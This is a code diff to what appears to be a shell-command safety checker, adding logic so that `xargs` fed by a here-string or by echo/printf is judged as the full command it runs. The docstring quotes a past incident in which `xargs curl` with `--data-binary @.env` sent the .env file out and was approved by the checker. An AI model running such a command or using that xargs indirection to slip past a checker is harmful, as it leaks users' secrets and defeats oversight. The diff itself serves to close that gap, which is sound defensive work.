@@ -56,6 +56,40 @@ def xargs(an: Analyzer, prog: str, argv: list[str], cmd: SimpleCommand) -> None:
         copies.from_input(an, name, argv, mark, cmd.cwd)
 
 
+def fed(an: Analyzer, rest: list[str], text: str, cwd: str | None, depth: int) -> None:
+    """``xargs [OPTIONS] PROG ARGS`` whose input is known (a literal here-string, ``echo``/``printf`` of literal
+    words before it in a pipe): judged as PROG with ARGS and the words it reads (rt51: `xargs curl <<< "-s
+    --data-binary @.env URL"` and `printf '%s\\n' … | xargs curl` posted .env, approved)."""
+    import shlex
+
+    from macrohard.safety.argv import unwrap
+
+    argv = unwrap("xargs", rest)
+    if not argv or any(a.startswith(("-I", "-i", "--replace")) for a in rest[:len(rest) - len(argv)]):
+        return
+    try:
+        words = shlex.split(text)
+    except ValueError:
+        words = text.split()
+    an.line(shlex.join([*argv, *words]), depth + 1, cwd)
+
+
+def printed(argv: list[str], expanded: set[str]) -> str | None:
+    """What ``echo WORDS`` or ``printf FORMAT WORDS`` of literal words prints; None when it is not known."""
+    from macrohard.safety.shellwords import printf_text
+
+    if not argv or expanded & set(argv[1:]):
+        return None
+    if argv[0] == "echo":
+        words = argv[1:]
+        while words and words[0] in ("-n", "-e", "-E"):
+            words = words[1:]
+        return " ".join(words) + "\n"
+    if argv[0] == "printf" and len(argv) > 1 and argv[1] != "-v":
+        return printf_text(argv[1], argv[2:])
+    return None
+
+
 def found(an: Analyzer, sub: list[str], option: str = "-exec") -> None:
     """``find … -exec PROG ARGS ;``: a found name as the program, or given to a program that runs code by its
     arguments; ``-execdir PROG`` of such a program (it reads the found folder's files: its Makefile, its scripts)."""
